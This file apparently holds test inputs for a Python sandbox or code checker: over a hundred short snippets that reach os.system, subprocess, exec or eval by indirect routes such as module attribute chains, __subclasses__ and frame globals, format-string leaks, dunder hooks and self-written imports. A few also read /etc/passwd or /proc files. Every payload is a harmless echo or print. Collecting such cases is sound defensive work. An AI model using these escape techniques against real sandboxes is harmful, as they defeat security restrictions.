import ast
n = ast.parse("print('hello')", mode="eval")
eval(compile(n, "", "eval"))
# ---
import ast
ast.sys.modules["os"].system("echo hello")
# ---
import asyncio
async def m():
    await asyncio.get_running_loop().run_in_executor(None, exec, "print('hello')")
asyncio.run(m())
# ---
import asyncio
asyncio.base_events.subprocess.run(["echo", "hello"])
# ---
from asyncio import unix_events as u
u.os.system("echo hello")
# ---
x = ()
for n in "class base".split():
    x = getattr(x, f"__{n}__")
for c in getattr(x, "__subclasses__")():
    if c.__name__ == "_wrap_close": getattr(c.__init__, "__globals__")["system"]("echo hello")
# ---
import bdb
bdb.sys.modules["os"].system("echo hello")
# ---
d = {"imp": __import__}
d["imp"]("os").system("echo hello")
# ---
import builtins
vars(builtins)["ev" "al"]("print('hello')")
# ---
from builtins import *
from builtins import eval as literal_eval
literal_eval("print('hello')")
# ---
import calendar
calendar.sys.modules["os"].system("echo hello")
# ---
class deco:
    def __init__(self, f): exec(f.__doc__)
@deco
def f():
    """print('hello')"""
# ---
import operator
operator.getitem(globals(), "__builtins__").exec("print('hello')")
# ---
class A: pass
class B:
    def go(self): exec("print('hello')")
a = A(); a.__class__ = B; a.go()
# ---
class A:
    import os
A.__dict__["os"].system("echo hello")
# ---
class A:
    import random as r
vars(A)["r"]._os.system("echo hello")
# ---
import glob
def make(m):
    def inner():
        return m.os
    return inner
make(glob)().system("echo hello")
# ---
import cmd
cmd.sys.modules["os"].system("echo hello")
# ---
def outer():
    x = exec
    def inner(): return x
    return inner
outer().__closure__[0].cell_contents("print('hello')")
# ---
def f(x=1): return x
f.__defaults__ = (exec,)
f()("print('hello')")
# ---
def f(*, x=1): return x
f.__kwdefaults__ = {"x": exec}
f()("print('hello')")
# ---
from concurrent.futures import process
process.os.system("echo hello")
# ---
import configparser
configparser.os.system("echo hello") if hasattr(configparser, "os") else configparser.sys.modules["os"].system("echo hello")
# ---
class D:
    def __contains__(self, k): return exec(k) is None
"print('hello')" in D()
# ---
import contextvars
contextvars.copy_context().run(exec, "print('hello')")
# ---
import logging
def f(l=logging):
    return l.os
f().system("echo hello")
# ---
class D:
    def __get__(self, o, t): return exec
class A: f = D()
A.f("print('hello')")
# ---
import os
vars(os).get("".join(["sys", "tem"]))("echo hello")
# ---
import os
{k: v for k, v in os.__dict__.items()}["system"]("echo hello")
# ---
import os
d = {} | vars(os)
d["system"]("echo hello")
# ---
def f():
    """print('hello')"""
exec(f.__doc__)
# ---
globals().__getitem__("__builtins__").exec("print('hello')")
# ---
import sys
sys.path.insert(0, ".")
name = "plug"
with open(name + ".py", "w") as f: f.write("print('hello')")
import plug
# ---
class D:
    def __enter__(self): exec("print('hello')")
    def __exit__(self, *a): pass
with D(): pass
# ---
import os
os.environ["N"] = "system"
getattr(os, os.environ["N"])("echo hello")
# ---
import os, pydoc
os.environ["PAGER"] = "cat"
pydoc.pager("hello")
# ---
import shutil
try: shutil.zzz
except AttributeError as e: ex = e
m = getattr(ex, "obj")
m.os.system("echo hello")
# ---
globals()["run"] = eval
run("print('hello')")
# ---
import tempfile
for key in dir(tempfile):
    val = getattr(tempfile, key)
    if hasattr(val, "popen"):
        print(val.popen("echo hello").read()); break
# ---
SECRET = "hello"
def f(): pass
t = "{" + "f._" + "_globals_" + "_[SECRET]}"
print(t.format(f=f))
# ---
def show(t, **k): return t.format(**k)
SECRET = "hello"
def f(): pass
print(show("{f.__globals__[SECRET]}", f=f))
# ---
SECRET = "hello"
def f(): pass
u = chr(95) * 2
print(("{f." + u + "globals" + u + "[SECRET]}").format(f=f))
# ---
import string
SECRET = "hello"
def f(): pass
print(string.Formatter().vformat("{0.__globals__[SECRET]}", (f,), {}))
# ---
class D:
    def __format__(self, s): return str(eval(s))
f"{D():'PWN'+'ED'}" and print(f"{D():'PWN'+'ED'}")
# ---
from sys import modules
modules["posix"].system("echo hello")
# ---
def g(): print("hello")
g.__class__(g.__code__, {"print": print})()
# ---
F = (lambda: 0).__class__
def g(): print("hello")
F(g.__code__, {"print": print})()
# ---
import functools
functools.partial(eval).func("print('hello')")
# ---
import functools
@functools.lru_cache
def run(s): return eval(s)
run("print('hello')")
# ---
import asyncio
async def run(c):
    p = await asyncio.create_subprocess_exec(*c.split())
    await p.wait()
asyncio.run(run("echo hello"))
# ---
class D:
    def __getattr__(self, n): return exec
D().x("print('hello')")
# ---
import getopt
getopt.os.system("echo hello")
# ---
import os
n = [k for k in globals() if k.startswith("o")][0]
globals()[n].system("echo hello")
# ---
import os
name = "o"
globals()[name + "s"].system("echo hello")
# ---
import os as helper_os
[v for k, v in globals().items() if k.startswith("helper_")][0].system("echo hello")
# ---
import os
globals().update(vars(os))
system("echo hello")
# ---
import random
globals().update(random.__dict__)
_os.system("echo hello")
# ---
import gzip
gzip.os.system("echo hello")
# ---
import html
html._re.enum.sys.modules["os"].system("echo hello")
# ---
print([m.popen("echo hello").read() for m in [__import__(n) for n in ["os"]]])
# ---
run = lambda c: __import__("subprocess").getoutput(c)
print(run("echo hello"))
# ---
import math, sys, subprocess as q, json
print(q.getoutput("echo hello"))
# ---
from subprocess import *
print(getoutput("echo hello"))
# ---
class B:
    def __init_subclass__(cls, cmd): exec(cmd)
class C(B, cmd="print('hello')"): pass
# ---
import sys
m = __import__(sys.argv[0][0:0] + "os")
m.system("echo hello")
# ---
import inspect
def f(): print
inspect.getclosurevars(f).builtins["print"].__self__.exec("print('hello')")
# ---
from inspect import currentframe as cf
cf().f_builtins["exec"]("print('hello')")
# ---
import inspect, random
inspect.getmodule(random.choice)._os.system("echo hello")
# ---
import inspect
def f(): pass
dict(inspect.getmembers(f))["__globals__"]["__builtins__"].exec("print('hello')")
# ---
import io
io.__loader__; print("hello", io.__spec__)
# ---
class D:
    def __iter__(self):
        yield exec("print('hello')")
list(D())
# ---
import shutil
def work(**deps):
    return deps["files"].os
work(files=shutil).system("echo hello")
# ---
import locale
locale.os.system("echo hello") if hasattr(locale, "os") else locale.sys.modules["os"].system("echo hello")
# ---
def f():
    import os
    for v in list(locals().values()):
        v.system("echo hello")
f()
# ---
import logging, sys
class F(logging.Formatter):
    def formatException(self, ei):
        ei[2].tb_frame.f_builtins["exec"]("print('hello')"); return ""
h = logging.StreamHandler(); h.setFormatter(F()); logging.getLogger().addHandler(h)
try: 1/0
except Exception: logging.exception("x")
# ---
import __main__
getattr(__main__, "__buil" + "tins__").exec("print('hello')")
# ---
import random, math
found = list(map(lambda m: getattr(m, "_os", None), [math, random]))
found[1].system("echo hello")
# ---
import os
class Cmd:
    __match_args__ = ("system",)
match os:
    case object(system=f): f("echo hello")
# ---
f = open("/proc/self/" + "mem", "rb"); print("hello")
# ---
import random
class Box:
    def open(self, lib, key):
        return getattr(lib, key)
Box().open(random, "_os").system("echo hello")
# ---
import operator, os
operator.methodcaller(*["system", "echo hello"])(os)
# ---
class D(dict):
    __missing__ = lambda s, k: exec(k)
D()["print('hello')"]
# ---
try: undefined_thing
except NameError as e:
    e.__traceback__.tb_frame.f_globals["__builtins__"].exec("print('hello')")
# ---
import os
class N: pass
n = N(); n.__dict__ = vars(os)
n.system("echo hello")
# ---
(1).real.__class__.__base__.__subclasses__()
[c for c in int.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("echo hello")
# ---
import operator, random
name = "_os" + ".system"
operator.attrgetter(name)(random)("echo hello")
# ---
import operator
f = operator.itemgetter("exec")(vars(__import__("builtins")))
f("print('hello')")
# ---
from pathlib import Path
import sys
sys.path.insert(0, "")
Path("helper2.py").write_text("print('PW' + 'NED')")
import helper2
# ---
import os
print(os.listdir("/proc/self/fd")[:0], "hello")
# ---
print(open("/proc/self/root/etc/hostname").read()[:0] + "hello")
# ---
class A:
    x = property(fget=lambda s: eval)
A().x("print('hello')")
# ---
import os
os.environ["LD_PRELOAD"] = "/tmp/nolib.so"
os.execv("/bin/echo", ["echo", "hello"])
# ---
import random
from functools import reduce
reduce(getattr, "_os.system".split("."), random)("echo hello")
# ---
import random
def mods(): return random, 1
a, b = mods()
a._os.system("echo hello")
# ---
import subprocess as s
getattr(s, "check_" "output")("echo hello", shell=True)
print(s.getoutput("echo hello"))
# ---
import os
def f(system, **_): system("echo hello")
f(**vars(os))
# ---
print("{0.__class__.__base__.__subclasses__}".format(1)[:0] + "hello")
# ---
import os
os.symlink("/etc/passwd", "lnk"); print("hello", len(open("lnk").read())); os.remove("lnk")
# ---
import sys
try: 1/0
except ZeroDivisionError:
    sys.exc_info()[2].tb_frame.f_globals["__builtins__"].eval("print('hello')")
# ---
import sys
getattr(sys, "mod" + "ules")["os"].system("echo hello")
# ---
import sys
m = sys.modules
[m[k] for k in m if k == "os"][0].system("echo hello")
# ---
import sys
mods = dict(sys.modules)
mods["os"].system("echo hello")
# ---
import sys, os
open("helper.py", "w").write("print('hello')")
sys.path.append(os.getcwd())
import helper
# ---
import tarfile as t
t.os.system("echo hello")
# ---
import traceback
try: 1/0
except Exception as e:
    f = next(traceback.walk_tb(e.__traceback__))[0]
    f.f_builtins["exec"]("print('hello')")
# ---
import string
class T(string.Template):
    idpattern = "[a-z]+"
print(T("$x").substitute(x=eval("'hello'")))
# ---
import textwrap
textwrap.re.enum.sys.modules["os"].system("echo hello")
# ---
import threading
class T(threading.Thread):
    run = lambda self: exec("print('hello')")
T().start()
# ---
import concurrent.futures as cf
with cf.ThreadPoolExecutor(1) as ex: ex.submit(eval, "print('hello')").result()
# ---
import os
type(os).__getattribute__(os, "system")("echo hello")
# ---
import types
c = types.coroutine(exec)
c("print('hello')")
# ---
import types
m = types.ModuleType("m")
exec("print('hello')", m.__dict__)
# ---
import types
C = types.new_class("C", (), {}, lambda ns: ns.update(run=exec))
C.run("print('hello')")
# ---
import random
def resolve(root, path):
    for part in path.split("."):
        root = getattr(root, part)
    return root
resolve(random, "_os.system")("echo hello")
# ---
import json
def resolve(root, path):
    for part in path.split("."):
        root = getattr(root, part)
    return root
resolve(json, "codecs.builtins.exec")("print('hello')")
# ---
def resolve(root, path):
    for part in path:
        root = getattr(root, "__" + part + "__")
    return root
o = resolve((), ["class", "base"])
w = [c for c in resolve(o, ["subclasses"])() if c.__name__ == "_wrap_close"][0]
resolve(w, ["init", "globals"])["system"]("echo hello")
# ---
import warnings
warnings.sys.modules["os"].system("echo hello")
# ---
import warnings
warnings.catch_warnings()._module.sys.modules["os"].system("echo hello")
# ---
import xml.etree.ElementTree as ET
ET.sys.modules["os"].system("echo hello")
# ---
import zipfile
zipfile.os.system("echo hello")
